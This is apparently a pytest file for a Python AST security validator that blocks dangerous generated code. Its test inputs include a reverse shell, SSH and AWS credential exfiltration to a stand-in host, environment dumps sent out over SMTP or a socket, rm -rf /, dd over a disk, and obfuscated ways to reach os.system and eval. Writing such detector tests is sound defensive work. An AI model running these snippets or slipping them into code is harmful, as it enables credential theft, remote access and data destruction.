"""Templar's AST security layer: name resolution, each rule class, hints, policy, dedupe with Bandit.

The cases named in issue 10 section 3 are here verbatim (each walked past Bandit before); the
corpus test (test_validation_corpus.py) measures the rules on 114 techniques and 225 clean files.
"""

from __future__ import annotations

import ast
import json
import textwrap

import pytest

from engine.validation import CodeValidator, Finding, ValidationPolicy, ValidationReport
from engine.validation.ast_names import NameResolver
from engine.validation.ast_rules import scan, words
from engine.validation.ast_tables import RULES
from tests.cli.helpers import run_main


@pytest.fixture(scope="module")
def validator() -> CodeValidator:
    return CodeValidator()


def code_of(body: str) -> str:
    return textwrap.dedent(body).lstrip("\n")


# (name, code, rule id expected to block, its line)
ISSUE_CASES = [
    ("dunder-import", "cmd = input()\n__import__('os').system(cmd)\n", "TPL101", 2),
    ("getattr", "import os\ncmd = input()\ngetattr(os, 'system')(cmd)\n", "TPL101", 3),
    ("import-module", "import importlib\nimportlib.import_module('os').system(cmd)\n", "TPL101", 2),
    ("builtins-eval", "import builtins\nbuiltins.eval(x)\n", "TPL110", 2),
    ("eval-alias", "ev = eval\nev(x)\n", "TPL110", 2),
    ("globals-builtins", "globals()['__builtins__']['exec']('print(1)')\n", "TPL110", 1),
    ("sh-dash-c", "import subprocess\nsubprocess.run(['sh', '-c', cmd])\n", "TPL102", 2),
    ("ctypes", "import ctypes\nctypes.CDLL(None).system(b'id')\n", "TPL120", 2),
    ("pty", "import pty\npty.spawn('/bin/sh')\n", "TPL103", 2),
    (
        "reverse-shell",
        code_of("""
        import os, socket
        s = socket.socket()
        s.connect(('10.0.0.1', 4242))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        """),
        "TPL105",
        4,
    ),
    ("rmtree-home", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n", "TPL140", 3),
    (
        "ssh-exfil",
        code_of("""
        import urllib.request
        from pathlib import Path
        key = (Path.home() / '.ssh' / 'id_rsa').read_bytes()
        urllib.request.urlopen('https://x.example', data=key)
        """),
        "TPL150",
        3,
    ),
    (
        "md5-password",
        "import hashlib\n\ndef store(password):\n    return hashlib.md5(password.encode()).hexdigest()\n",
        "TPL160",
        4,
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "line"), ISSUE_CASES, ids=[c[0] for c in ISSUE_CASES])
def test_issue_cases_are_blocked_with_rule_line_and_hint(validator, name, code, rule_id, line) -> None:
    report = validator.validate(code)
    assert not report.ok, report.findings
    matching = [f for f in report.blocking if f.rule_id == rule_id]
    assert matching, f"{name}: expected {rule_id}, got {[(f.rule_id, f.line) for f in report.findings]}"
    assert line in [f.line for f in matching] and all(f.checker == "security" for f in matching)
    assert all(f.hint and f.message for f in matching)
    assert "security:ast templar-rules 1" in report.checkers


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ("os.system", "os.system"),
        ("o.system", "os.system"),
        ("run", "os.system"),
        ("alias", "os.system"),
        ("getattr(os, 'sys' + 'tem')", "os.system"),
        ("getattr(os, f'{prefix}tem')", "os.system"),
        ("getattr(os, 'metsys'[::-1])", "os.system"),
        ("operator.attrgetter('system')(os)", "os.system"),
        ("__import__('o' + 's').system", "os.system"),
        ("__import__(''.join(['o', 's'])).system", "os.system"),
        ("importlib.import_module('os').system", "os.system"),
        ("sys.modules['os'].system", "os.system"),
        ("os.__dict__['system']", "os.system"),
        ("os.__getattribute__('system')", "os.system"),
        ("posix.system", "os.system"),
        ("eval", "builtins.eval"),
        ("builtins.eval", "builtins.eval"),
        ("vars(builtins)['eval']", "builtins.eval"),
        ("__builtins__['eval']", "builtins.eval"),
        ("globals()['__builtins__']['eval']", "builtins.eval"),
        ("(ns if flag else __builtins__.__dict__)['exec']", "builtins.exec"),
        ("ctypes.CDLL(None).system", "ctypes.CDLL().system"),
        ("Path.home()", "pathlib.Path.home()"),
        ("__import__(base64.b64decode('b3M=').decode()).system", "os.system"),
        ("getattr(os, codecs.decode('flfgrz', 'rot13'))", "os.system"),
        ("getattr(builtins, ''.join(chr(c) for c in (101, 118, 97, 108)))", "builtins.eval"),
        ("getattr(builtins, ''.join(map(chr, [101, 120, 101, 99])))", "builtins.exec"),
        ("getattr(builtins, bytes.fromhex('65786563').decode())", "builtins.exec"),
        ("os.__dict__.get('system')", "os.system"),
        ("vars(os).get('popen')", "os.popen"),
    ],
)
def test_resolver_sees_through_indirection(expression: str, expected: str) -> None:
    tree = ast.parse(
        code_of("""
        import os, operator, importlib, sys, builtins, ctypes, posix, base64, codecs
        import os as o
        from os import system as run
        from pathlib import Path
        prefix = 'sys'
        alias = os.system
        """)
    )
    resolver = NameResolver()
    for statement in tree.body:
        if isinstance(statement, (ast.Import, ast.ImportFrom)):
            resolver.bind_import(statement)
        elif isinstance(statement, ast.Assign):
            resolver.bind_assign(statement.targets, statement.value)
    assert expected in resolver.resolve(ast.parse(expression, mode="eval").body)


def test_resolver_respects_shadowing() -> None:
    issues = scan(ast.parse("def eval(text):\n    return text\n\nprint(eval('1'))\n"))
    assert [i.rule_id for i in issues] == []


@pytest.mark.parametrize(
    ("name", "code", "rule_id"),
    [
        ("shell-true-via-kwargs", "import subprocess\nopts = {'shell': True}\nsubprocess.run(c, **opts)\n", "TPL102"),
        ("bash-through-env", "import subprocess\nsubprocess.run(['/usr/bin/env', 'bash', '-c', c])\n", "TPL102"),
        ("python-dash-c-variable", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', code])\n", "TPL102"),
        ("argv-variable", "import subprocess\nsubprocess.Popen(argv)\n", "TPL104"),
        ("program-variable", "import subprocess\nsubprocess.run([tool, '--version'])\n", "TPL104"),
        ("create-subprocess-shell", "import asyncio\nasyncio.create_subprocess_shell(c)\n", "TPL101"),
        ("os-spawn", "import os\nos.spawnv(os.P_WAIT, path, [path])\n", "TPL103"),
        ("value-partial", "import functools, os\nf = functools.partial(os.popen, c)\n", "TPL101"),
        (
            "value-thread",
            "import threading, subprocess\nthreading.Thread(target=subprocess.call, args=(c,))\n",
            "TPL104",
        ),
        ("runpy", "import runpy\nrunpy.run_module(name)\n", "TPL110"),
        ("compile", "code_obj = compile(src, 'x', 'exec')\n", "TPL110"),
        ("interactive-console", "import code\ncode.InteractiveConsole().push(line)\n", "TPL110"),
        ("cffi", "from cffi import FFI\nffi = FFI()\nlib = ffi.dlopen('libc.so.6')\n", "TPL120"),
        ("marshal", "import marshal\nmarshal.loads(blob)\n", "TPL130"),
        ("yaml-unsafe", "import yaml as y\ny.unsafe_load(text)\n", "TPL130"),
        ("rmtree-tilde", "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n", "TPL140"),
        ("rmtree-cwd", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.cwd())\n", "TPL140"),
        (
            "walk-home-remove",
            code_of("""
        import os
        for root, dirs, files in os.walk(os.environ['HOME']):
            for f in files:
                os.remove(os.path.join(root, f))
        """),
            "TPL140",
        ),
        ("kill-all", "import os, signal\nos.kill(-1, signal.SIGKILL)\n", "TPL141"),
        (
            "env-dump-smtp",
            "import os, smtplib\nbody = str(dict(os.environ))\nsmtplib.SMTP('h').sendmail('a', ['b'], body)\n",
            "TPL150",
        ),
        (
            "aws-requests",
            "import requests\nrequests.post(u, data=open('/root/.aws/credentials').read(), timeout=3)\n",
            "TPL150",
        ),
        ("authorized-keys", "open('/root/.ssh/authorized_keys', 'a').write(key)\n", "TPL152"),
        ("hmac-md5", "import hmac\nsig = hmac.new(k, m, 'md5').hexdigest()\n", "TPL160"),
        ("sha1-token-assign", "import hashlib\ntoken_digest = hashlib.sha1(raw).hexdigest()\n", "TPL160"),
        ("random-token", "import random\nreset_token = ''.join(random.choices('abc', k=32))\n", "TPL161"),
        ("verify-attr", "import requests\ns = requests.Session()\ns.verify = False\n", "TPL170"),
        ("cert-none", "import ssl\nctx = ssl.create_default_context()\nctx.verify_mode = ssl.CERT_NONE\n", "TPL170"),
        ("aiohttp-ssl-false", "import aiohttp\nasync def f(s):\n    await s.get(u, ssl=False)\n", "TPL170"),
        ("methodcaller", "import operator, os\noperator.methodcaller('popen', c)(os)\n", "TPL101"),
        ("executable-shell", "import subprocess\nsubprocess.run(['x'], executable='/bin/sh')\n", "TPL102"),
        ("getattr-dynamic", "import subprocess\ngetattr(subprocess, name)(c)\n", "TPL106"),
        ("builtins-dynamic-key", "import builtins\nvars(builtins)[name](c)\n", "TPL106"),
        ("frame-globals", "import inspect\ng = inspect.currentframe().f_back.f_globals\n", "TPL107"),
        ("subclasses-escape", "x = ''.__class__.__mro__[1].__subclasses__()\n", "TPL107"),
        ("rm-rf-root", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n", "TPL140"),
        ("dd-device", "import subprocess\nsubprocess.run(['dd', 'if=/dev/zero', 'of=/dev/sda'])\n", "TPL140"),
        (
            "env-dump-program",
            "import subprocess, socket\nout = subprocess.check_output(['env'])\n"
            "socket.create_connection((h, 1)).sendall(out)\n",
            "TPL150",
        ),
        ("star-import", "from subprocess import *\ngetoutput(c)\n", "TPL101"),
        ("tls-env-var", "import os\nos.environ['PYTHONHTTPSVERIFY'] = '0'\n", "TPL170"),
        ("tls-env-update", "import os\nos.environ.update(NODE_TLS_REJECT_UNAUTHORIZED='0')\n", "TPL170"),
        ("hashlib-new-name-kw", "import hashlib\ntoken_hash = hashlib.new(name='sha1', data=t)\n", "TPL160"),
        (
            "source-loader",
            "import importlib.machinery\nm = importlib.machinery.SourceFileLoader('m', p).load_module()\n",
            "TPL110",
        ),
        ("setcomp-home-unlink", "from pathlib import Path\n{p.unlink() for p in Path.home().iterdir()}\n", "TPL140"),
    ],
)
def test_rule_classes_block(validator, name, code, rule_id) -> None:
    """The rule blocks, or Bandit's equivalent test does (then the rule does not repeat it)."""
    report = validator.validate(code)
    accepted = {rule_id} | RULES[rule_id].bandit_equivalents
    assert accepted & {f.rule_id for f in report.blocking}, (name, report.findings)


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("constant-argv", "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n"),
        ("constant-argv-variable-arg", "import subprocess\nsubprocess.run(['ls', '-l', path])\n"),
        ("argv-bound-to-literal", "import subprocess\ncmd = ['make', 'test']\nsubprocess.run(cmd)\n"),
        ("python-dash-c-constant", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n"),
        ("re-compile", "import re\npattern = re.compile(text)\n"),
        ("eval-method", "model.eval()\n"),
        ("md5-checksum", "import hashlib\n\ndef etag(body):\n    return hashlib.md5(body).hexdigest()\n"),
        ("sha1-not-for-security", "import hashlib\npassword_hint = hashlib.sha1(b'x', usedforsecurity=False)\n"),
        ("random-dice", "import random\n\ndef roll():\n    return random.randint(1, 6)\n"),
        (
            "random-tokens-plural",
            "import random\n\ndef sample_tokens(tokens, k):\n    return random.sample(tokens, k)\n",
        ),
        ("rmtree-argument", "import shutil\n\ndef clean(build_dir):\n    shutil.rmtree(build_dir)\n"),
        (
            "rmtree-home-subdir",
            "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'app')\n",
        ),
        ("glob-specific", "import glob, os\nfor f in glob.glob('*.tmp'):\n    os.remove(f)\n"),
        ("env-var-to-api", "import os, requests\nrequests.get(u, headers={'X': os.environ['API_KEY']}, timeout=5)\n"),
        ("env-get-to-api", "import os, requests\nrequests.get(u, params={'k': os.environ.get('K')}, timeout=5)\n"),
        ("env-copy-no-network", "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['make'], env=env)\n"),
        (
            "ssh-mentioned-in-docstring",
            'import requests\n\ndef f():\n    """Unlike ~/.ssh keys, this is public."""\n'
            "    return requests.get(u, timeout=5)\n",
        ),
        ("getattr-self", "class A:\n    def run(self, name):\n        return getattr(self, 'do_' + name)()\n"),
        ("import-json", "import importlib\nmod = importlib.import_module('json')\nmod.loads('1')\n"),
        ("ctypes-values", "import ctypes\nx = ctypes.c_int32(5).value\n"),
        ("kill-child", "import os, signal\nos.kill(pid, signal.SIGTERM)\n"),
        ("getattr-math-variable", "import math\nf = getattr(math, name)\n"),
        ("environ-variable-key", "import os\nv = os.environ[name]\n"),
        ("subclasses-of-own-class", "class A:\n    pass\n\nsubs = A.__subclasses__()\n"),
        ("env-wrapper", "import subprocess\nsubprocess.run(['env', 'A=1', 'make'])\n"),
        ("rm-one-file", "import subprocess\nsubprocess.run(['rm', '-f', path])\n"),
        ("star-import-math", "from math import *\nx = sqrt(2) + eval_count\n"),
        ("ca-bundle-path", "import os\nos.environ['REQUESTS_CA_BUNDLE'] = path\n"),
    ],
)
def test_near_misses_pass(validator, name, code) -> None:
    report = validator.validate(code)
    assert report.ok, (name, [(f.rule_id, f.line, f.message) for f in report.blocking])


def test_a_rule_bandit_already_reports_is_not_repeated_and_bandit_severity_stands(validator) -> None:
    report = validator.validate("value = eval(input())\n")
    assert [f.rule_id for f in report.findings if f.checker == "security"] == ["B307"]
    lenient = CodeValidator(ValidationPolicy(block_severity="high"))
    assert lenient.validate("value = eval(input())\n").ok  # Bandit: medium
    assert not lenient.validate("ev = eval\nvalue = ev(input())\n").ok  # hidden from Bandit: TPL110 high


def test_policy_overrides_apply_to_templar_rule_ids() -> None:
    code = "import hashlib\n\ndef hash_password(password):\n    return hashlib.md5(password.encode()).hexdigest()\n"
    assert not CodeValidator().validate(code).ok
    report = CodeValidator(ValidationPolicy(severity_overrides=(("TPL160", "low"),))).validate(code)
    assert report.ok and [f.severity for f in report.findings if f.rule_id == "TPL160"] == ["low"]


def test_credential_read_without_network_is_reported_low(validator) -> None:
    report = validator.validate(
        "from pathlib import Path\ncreds = (Path.home() / '.aws' / 'credentials').read_text()\n"
    )
    assert report.ok
    [finding] = [f for f in report.findings if f.rule_id == "TPL151"]
    assert finding.severity == "low" and not finding.blocking and finding.line == 2


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nfrom pathlib import Path\nh = (Path.home() / '.ssh' / 'known_hosts').read_text()\nrequests.get(u, timeout=5)\n",
        "import os, requests\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa.pub')\nrequests.post(u, data=open(p).read(), timeout=5)\n",
        "import paramiko\nc = paramiko.SSHClient()\nc.connect(h, key_filename='/home/me/.ssh/id_rsa')\n",
        "import os, subprocess, requests\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\nrequests.get(u, timeout=5)\n",
        "import os, subprocess, requests\nenv = os.environ.copy()\nenv['A'] = '1'\nenv.update(B='2')\n"
        "subprocess.run(['make'], env=env)\nrequests.get(u, timeout=5)\n",
    ],
)
def test_public_ssh_files_key_files_for_login_and_subprocess_env_copies_are_not_exfiltration(validator, code) -> None:
    report = validator.validate(code)
    assert "TPL150" not in [f.rule_id for f in report.findings], report.findings


def test_an_environment_copy_that_is_also_sent_is_still_exfiltration(validator) -> None:
    code = "import os, subprocess, requests\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\nrequests.post(u, json=env, timeout=5)\n"
    assert "TPL150" in [f.rule_id for f in validator.validate(code).blocking]
    code = "import os, requests\nenv = dict(os.environ)\nrequests.post(u, json=env, timeout=5)\n"
    assert "TPL150" in [f.rule_id for f in validator.validate(code).blocking]


def test_hint_is_in_the_report_and_old_reports_still_load(validator) -> None:
    report = validator.validate("import os\nrun = os.system\nrun(c)\n")
    data = json.loads(json.dumps(report.to_dict()))
    assert all("hint" in f for f in data["findings"])
    assert ValidationReport.from_dict(data) == report
    old = {"rule_id": "B307", "checker": "security", "severity": "medium", "line": 1, "message": "m", "blocking": True}
    assert Finding.from_dict(old).hint == ""
    assert Finding("B307", "security", "medium", 1, "m", True).hint == ""


def test_bandit_findings_get_hints_too(validator) -> None:
    report = validator.validate("import pickle\nobj = pickle.loads(blob)\n")
    [finding] = [f for f in report.blocking if f.rule_id == "B301"]
    assert "json" in finding.hint


def test_cli_validate_prints_the_fix_hint(capsys, tmp_path) -> None:
    file = tmp_path / "gen.py"
    file.write_text('import os\n\n\ndef run(cmd: str) -> int:\n    """Run."""\n    return getattr(os, "system")(cmd)\n')
    code, out, _ = run_main(capsys, "validate", str(file))
    assert code == 5 and "TPL101" in out and "BLOCKED" in out
    assert "fix TPL101 (line 6): Do not run a shell" in out
    code, out, _ = run_main(capsys, "validate", str(file), "--json")
    [finding] = [f for f in json.loads(out)["findings"] if f["rule_id"] == "TPL101"]
    assert finding["hint"].startswith("Do not run a shell") and finding["line"] == 6


def test_words_split_identifiers() -> None:
    assert words("newSessionToken") == {"new", "session", "token", "newsession", "sessiontoken"}
    assert words("hash_password") == {"hash", "password", "hashpassword"}
    assert "apikey" in words("fingerprint_api_key") and "token" not in words("sample_tokens")


def test_a_tree_too_deep_for_the_walk_fails_closed(validator, monkeypatch) -> None:
    from engine.validation import ast_rules

    def too_deep(tree):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(ast_rules, "scan", too_deep)
    report = validator.validate("x = 1\n")
    assert [f.rule_id for f in report.blocking] == ["security-scan-failed"]
    assert "security:ast templar-rules 1 (failed)" in report.checkers
